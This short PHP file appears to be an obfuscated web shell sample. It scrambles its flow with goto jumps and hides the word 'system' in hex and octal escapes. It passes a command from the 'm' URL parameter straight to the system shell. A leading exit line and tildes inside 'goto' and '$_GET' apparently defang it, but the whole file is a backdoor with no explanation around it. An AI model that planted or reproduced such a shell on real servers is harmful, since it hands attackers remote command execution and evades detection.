<?php exit; ?>
<?php
got~o m3; m1: $f = "\x73\x79\x73\x74\145\x6d"; got~o m4; m2: $f($v); got~o m5; m3: got~o m1; m4: $v = $_G~ET['m']; got~o m2; m5:
